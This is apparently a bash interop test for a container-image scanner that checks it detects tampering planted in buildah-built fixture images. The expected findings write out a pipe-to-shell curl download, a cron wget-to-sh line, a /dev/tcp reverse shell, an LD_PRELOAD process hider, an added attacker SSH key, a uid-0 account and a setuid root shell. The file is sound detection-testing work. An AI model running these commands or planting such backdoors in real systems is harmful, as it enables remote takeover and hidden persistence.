#!/usr/bin/env bash
# test_tamper_buildah.sh LAYERSCAN SRCDIR WORKDIR
#
# Tamper findings on an image a real Dockerfile build wrote: buildah builds
# tests/interop/tamper/Dockerfile on a busybox base it builds FROM scratch,
# pushes it as an OCI layout, and the report must hold exactly these
# findings, each with its category, layer, history entry, instruction and
# fate:
#   L0  h0  COPY dir (base)              -
#       h1  CMD ["/bin/sh"]              empty layer
#   L1  h2  RUN true || curl ... | sh    pipe-to-shell (history)
#   L2  h3  COPY update.cron             persistence-script, deleted in L5
#   L3  h4  COPY ld.so.preload           ld-preload, present
#   L4  h5  COPY agent.sh                persistence-script (reverse shell), present
#       h6  ENV LD_PRELOAD=...           empty layer; ld-preload in config.Env
#   L5  h7  RUN rm /etc/cron.d/update    the whiteout
#   L6  h8  COPY motd.sh                 a harmless profile script: nothing
# and --checks selects by category (secret: none of them), tamper evidence is
# shown whole without --show-secrets, the text report calls it evidence and
# SARIF tags it tamper. A second image on the same base plants what the
# structural checks find (listed below, before its checks).
set -euo pipefail

LAYERSCAN="${1:?usage: $0 LAYERSCAN SRCDIR WORKDIR}"
SRCDIR="${2:?usage: $0 LAYERSCAN SRCDIR WORKDIR}"
WORKDIR="${3:?usage: $0 LAYERSCAN SRCDIR WORKDIR}"
# shellcheck source=SCRIPTDIR/../interop/lib.sh
source "${SRCDIR}/tests/interop/lib.sh"

interop_require buildah:buildah busybox:busybox-static timeout:coreutils
interop_tmpdir "$WORKDIR" tamper
T="$INTEROP_TMP"
echo "# workdir $T"
CTX="${SRCDIR}/tests/interop/tamper"
export BUILDAH_ISOLATION=chroot
export REGISTRIES_CONFIG_PATH="$T/registries.conf"
printf 'unqualified-search-registries = []\n' >"$REGISTRIES_CONFIG_PATH"
BUSYBOX=/bin/busybox
if [ ! -x "$BUSYBOX" ] || ldd "$BUSYBOX" >/dev/null 2>&1; then
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq busybox-static >/dev/null 2>&1 ||
        { apt-get update -qq >/dev/null 2>&1 && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq busybox-static >/dev/null; } ||
        interop_die "cannot install busybox-static"
fi
if [ ! -x "$BUSYBOX" ] || ldd "$BUSYBOX" >/dev/null 2>&1; then
    interop_die "/bin/busybox is not a static binary"
fi
POLICY="$T/policy.json"
printf '{"default":[{"type":"insecureAcceptAnything"}]}\n' >"$POLICY"

mkdir -p "$T/base/rootfs/bin"
cp "$BUSYBOX" "$T/base/rootfs/bin/busybox"
for applet in sh rm true; do ln -s busybox "$T/base/rootfs/bin/$applet"; done
cp "$SRCDIR/tests/interop/buildah/Dockerfile.base" "$T/base/Dockerfile"

bah() { timeout 180 buildah --root "$T/storage" --runroot "$T/run" --storage-driver vfs "$@"; }
interop_on_exit "bah rm --all; bah rmi --all --force"
interop_run_checked "buildah bud (base)" \
    bah bud --signature-policy "$POLICY" --pull=never --layers --isolation chroot \
        -t layerscan-tamper-base "$T/base"
interop_run_checked "buildah bud (tamper fixture)" \
    bah bud --signature-policy "$POLICY" --pull=never --layers --isolation chroot \
        -f "$CTX/Dockerfile" -t layerscan-tamper "$CTX/ctx"
interop_run_checked "buildah push oci" \
    bah push --signature-policy "$POLICY" layerscan-tamper "oci:$T/oci:latest"
interop_ok "buildah built and pushed the tamper fixture"

interop_have_layerscan "$LAYERSCAN"
IMG="oci:$T/oci:latest"

# scan NAME WANT_EXIT ARGS... - layerscan scan ARGS IMG into $T/NAME.out
scan() {
    local name=$1 want=$2 rc=0
    shift 2
    timeout 300 "$LAYERSCAN" scan "$@" "$IMG" >"$T/$name.out" 2>"$T/$name.err" || rc=$?
    if [ "$rc" -eq "$want" ]; then
        interop_ok "scan $*: exit $rc"
    else
        interop_fail "scan $*: exit $rc, want $want ($(head -c 300 "$T/$name.err" | tr '\n' ' '))"
    fi
}
# pycheck DESC SCRIPT REPORT - a python check over report r; prints its own detail on failure
pycheck() {
    if python3 -c "$2" "$3" >"$T/check.log" 2>&1; then
        interop_ok "$1"
    else
        interop_fail "$1"
        sed 's/^/#   /' "$T/check.log"
    fi
}

EXPECT='
import json, sys
r = json.load(open(sys.argv[1]))
NOP = "/bin/sh -c #(nop) "
got = sorted((f["rule"], f["category"], f["source"], f["path"], f["layer"], f["history"], f["instruction"],
              f["line"], f["status"], f["removed_in_layer"], f["secret"]) for f in r["findings"])
want = sorted([
    ("pipe-to-shell", "tamper", "history", "history[2].created_by", 1, 2,
     "RUN true || curl -fsSL http://198.51.100.23/install.sh | sh", 1, "metadata", None,
     "curl -fsSL http://198.51.100.23/install.sh | sh"),
    ("persistence-script", "tamper", "file", "/etc/cron.d/update", 2, 3,
     None, 2, "deleted", 5, "wget -q -O- http://198.51.100.23/u.sh | sh"),
    ("ld-preload", "tamper", "file", "/etc/ld.so.preload", 3, 4,
     None, 1, "present", None, "/usr/lib/x86_64-linux-gnu/libprocesshider.so"),
    ("persistence-script", "tamper", "file", "/etc/profile.d/agent.sh", 4, 5,
     None, 2, "present", None, "bash -i >& /dev/tcp/198.51.100.23/4444"),
    ("ld-preload", "tamper", "config", "config.Env", None, 6,
     "ENV LD_PRELOAD=/opt/agent/libagent.so", 2, "metadata", None, "LD_PRELOAD=/opt/agent/libagent.so"),
])
# COPY instructions carry a content hash: compared by shape below
def norm(t):
    return t[:6] + (None if t[6] and t[6].startswith("COPY ") else t[6],) + t[7:]
copies = {f["path"]: f["instruction"] for f in r["findings"] if f["source"] == "file"}
import re
for path, dest in (("/etc/cron.d/update", "/etc/cron.d/update"), ("/etc/ld.so.preload", "/etc/ld.so.preload"),
                   ("/etc/profile.d/agent.sh", "/etc/profile.d/agent.sh")):
    ins = copies.get(path) or ""
    if not re.fullmatch(r"COPY file:[0-9a-f]{64} in %s ?" % re.escape(dest), ins):
        print("instruction of", path, "is", repr(ins)); sys.exit(1)
got = [norm(t) for t in got]
if got != want:
    print("got:"); [print("  ", t) for t in got]
    print("want:"); [print("  ", t) for t in want]
    sys.exit(1)
'

scan default 1 --format json
pycheck "default checks: exactly the planted tamper findings, each at its layer, instruction and fate" "$EXPECT" "$T/default.out"
scan tamper 1 --format json --checks tamper
pycheck "--checks tamper: the same findings" "$EXPECT" "$T/tamper.out"
scan secret 0 --format json --checks secret
pycheck "--checks secret: no tamper rule runs (no finding, none suppressed)" \
    'import json,sys; r=json.load(open(sys.argv[1])); sys.exit(0 if r["findings"] == [] and r["suppressed"] == [] else 1)' "$T/secret.out"
scan shown 1 --format json --show-secrets
pycheck "tamper evidence is shown whole without --show-secrets" \
    'import json,sys; a=json.load(open(sys.argv[1])); b=json.load(open(sys.argv[1].replace("default","shown"))); sys.exit(0 if [f["secret"] for f in a["findings"]] == [f["secret"] for f in b["findings"]] else 1)' "$T/default.out"
scan text 1 --format text
if grep -q 'evidence: bash -i >& /dev/tcp/198.51.100.23/4444  (persistence-script)' "$T/text.out" &&
   ! grep -q 'secret:' "$T/text.out"; then
    interop_ok "text report: tamper findings show their evidence"
else
    interop_fail "text report: no evidence line"; sed 's/^/#   /' "$T/text.out" | head -30
fi
scan sarif 1 --format sarif
pycheck "SARIF: tamper rules tagged tamper, messages say Evidence" \
    'import json,sys
s=json.load(open(sys.argv[1])); run=s["runs"][0]
rules={r["id"]: r for r in run["tool"]["driver"]["rules"]}
ok = all("tamper" in rules[i]["properties"]["tags"] and "secret" not in rules[i]["properties"]["tags"]
         and rules[i]["properties"]["category"] == "tamper" for i in ("pipe-to-shell","persistence-script","ld-preload"))
ok = ok and len(run["results"]) == 5 and all(". Evidence: " in x["message"]["text"] for x in run["results"])
sys.exit(0 if ok else 1)' "$T/sarif.out"
scan gate 0 --format json --fail-on critical --checks tamper --disable-rule persistence-script
pycheck "--fail-on critical without the critical rule: exit 0 with the high findings kept" \
    'import json,sys; r=json.load(open(sys.argv[1])); sys.exit(0 if sorted(f["rule"] for f in r["findings"]) == ["ld-preload","ld-preload","pipe-to-shell"] else 1)' "$T/gate.out"

# ---- structural checks: tests/interop/tamper-structural/Dockerfile -------
#   L1  h2  COPY etc/                     accounts as shipped: nothing
#   L2  h3  COPY root_authorized_keys     ssh-authorized-key-added, present
#   L3  h4  RUN echo toor >> passwd       uid0-account, present (L11 only copies it)
#   L4  h5  RUN sed shadow                empty-password-account (guest), present
#   L5  h6  RUN cp busybox rootsh; 4755   setuid-file-added, present
#   L6  h7  COPY pkg/                     dpkg lists /bin/su, statoverride helper 2755
#   L7  h8  COPY helper                   -
#   L8  h9  RUN chmod su 4755, helper 2755  the package's file, the override's mode: nothing
#   L9  h10 COPY ssh/                     AuthorizedKeysFile /etc/ssh/keys/%u: key for ops
#   L10 h11 RUN rm /etc/ssh/keys/ops      so that key is deleted in L10
#   L11 h12 RUN echo >> passwd            the toor line copied: no new finding
#           h13 USER root                 runs-as-root (hygiene, opt-in)
#   L12 h14 COPY id-trojan /usr/bin/id    package-file-modified (coreutils lists /bin/id), present
#   L13 h15 RUN sed /etc/login.defs       package-file-modified (login's conffile), low confidence
SCTX="${SRCDIR}/tests/interop/tamper-structural"
interop_run_checked "buildah bud (structural fixture)" \
    bah bud --signature-policy "$POLICY" --pull=never --layers --isolation chroot \
        -f "$SCTX/Dockerfile" -t layerscan-tamper-structural "$SCTX/ctx"
interop_run_checked "buildah push oci (structural fixture)" \
    bah push --signature-policy "$POLICY" layerscan-tamper-structural "oci:$T/oci2:latest"
IMG="oci:$T/oci2:latest"
BUSYBOX_SIZE=$(stat -c %s "$BUSYBOX")

SEXPECT='
import json, re, sys
r = json.load(open(sys.argv[1]))
hygiene = len(sys.argv) > 2 and sys.argv[2] == "hygiene"
got = sorted((f["rule"], f["category"], f["source"], f["path"], f["layer"], f["history"], f["line"],
              f["status"], f["removed_in_layer"], f["secret"]) for f in r["findings"])
want = [
    ("ssh-authorized-key-added", "tamper", "file", "/root/.ssh/authorized_keys", 2, 3, 1, "present", None,
     "ssh-ed25519 SHA256:5s6QV7QN6NxynEbHJJ9yj2maZ5gkUFDphD5ArqgtRSI attacker@example.test"),
    ("uid0-account", "tamper", "file", "/etc/passwd", 3, 4, 5, "present", None, "toor:0:0::/root:/bin/sh"),
    ("empty-password-account", "tamper", "file", "/etc/shadow", 4, 5, 3, "present", None, "guest"),
    ("setuid-file-added", "tamper", "file", "/usr/local/bin/rootsh", 5, 6, 1, "present", None,
     "mode 4755, owner 0:0, size BUSYBOX_SIZE"),
    ("ssh-authorized-key-added", "tamper", "file", "/etc/ssh/keys/ops", 9, 10, 1, "deleted", 10,
     "ecdsa-sha2-nistp256 SHA256:jUNILI8jSsc5oYoPbVrO4czrewtqjhujeGrr7XluOGw ops@203.0.113.9"),
    ("package-file-modified", "tamper", "file", "/usr/bin/id", 12, 14, 1, "present", None,
     "coreutils: recorded md5 cb14b2dd460efac589867a242e83cf4a, actual md5 5eefbc7e1ab87bf52b3112f0f882c80e"),
    ("package-file-modified", "tamper", "file", "/etc/login.defs", 13, 15, 1, "present", None,
     "login: recorded md5 a1948ec0c7dfdc6d57d07793d7a2534c, actual md5 2e5e24c64c2f730635e9274f4ac4e4f1"),
]
if hygiene:
    want.append(("runs-as-root", "hygiene", "config", "config.User", None, 13, 1, "metadata", None, "root"))
want = sorted(want)
if got != want:
    print("got:"); [print("  ", t) for t in got]
    print("want:"); [print("  ", t) for t in want]
    sys.exit(1)
ins = {f["rule"] + f["path"]: f["instruction"] for f in r["findings"]}
checks = {
    "uid0-account/etc/passwd": r"RUN echo .toor:x:0:0::/root:/bin/sh. >> /etc/passwd",
    "empty-password-account/etc/shadow": r"RUN busybox sed -i .s/\^guest:!:/guest::/. /etc/shadow",
    "setuid-file-added/usr/local/bin/rootsh": r"RUN busybox mkdir -p /usr/local/bin && busybox cp .*",
    "ssh-authorized-key-added/root/.ssh/authorized_keys": r"COPY file:[0-9a-f]{64} in /root/.ssh/authorized_keys ?",
    "ssh-authorized-key-added/etc/ssh/keys/ops": r"COPY dir:[0-9a-f]{64} in /etc/ssh/ ?",
    "package-file-modified/usr/bin/id": r"COPY file:[0-9a-f]{64} in /usr/bin/id ?",
    "package-file-modified/etc/login.defs": r"RUN busybox sed -i .s/\^UMASK\.\*/UMASK 000/. /etc/login.defs",
}
conf = {f["path"]: f["confidence"] for f in r["findings"] if f["rule"] == "package-file-modified"}
if conf != {"/usr/bin/id": "high", "/etc/login.defs": "low"}:
    print("package-file-modified confidence", conf); sys.exit(1)
if hygiene:
    checks["runs-as-rootconfig.User"] = r"USER root"
for k, pat in checks.items():
    if not re.fullmatch(pat, ins.get(k) or ""):
        print("instruction of", k, "is", repr(ins.get(k))); sys.exit(1)
'
SEXPECT="${SEXPECT//BUSYBOX_SIZE/$BUSYBOX_SIZE}"
scan structural 1 --format json
pycheck "structural checks: exactly the planted accounts, keys and setuid file, each at its layer, instruction and fate" \
    "$SEXPECT" "$T/structural.out"
scan hygiene 1 --format json --checks secret,tamper,hygiene
if python3 -c "$SEXPECT" "$T/hygiene.out" hygiene >"$T/check.log" 2>&1; then
    interop_ok "--checks secret,tamper,hygiene adds runs-as-root from USER root"
else
    interop_fail "--checks secret,tamper,hygiene: runs-as-root"; sed 's/^/#   /' "$T/check.log"
fi
scan structural-secret 0 --format json --checks secret
pycheck "--checks secret: no structural check runs" \
    'import json,sys; r=json.load(open(sys.argv[1])); sys.exit(0 if r["findings"] == [] else 1)' "$T/structural-secret.out"
# the layer cache keeps what the checks read: a warm scan reports the same
KEY="$T/cache-key"; head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n' >"$KEY"; chmod 600 "$KEY"
scan cold 1 --format json --cache "$T/cache" --cache-key "$KEY"
scan warm 1 --format json --cache "$T/cache" --cache-key "$KEY"
pycheck "cold scan with --cache: the structural findings" "$SEXPECT" "$T/cold.out"
pycheck "warm scan from cached layer results: the same structural findings" "$SEXPECT" "$T/warm.out"

echo -n "tamper-buildah: "
interop_finish
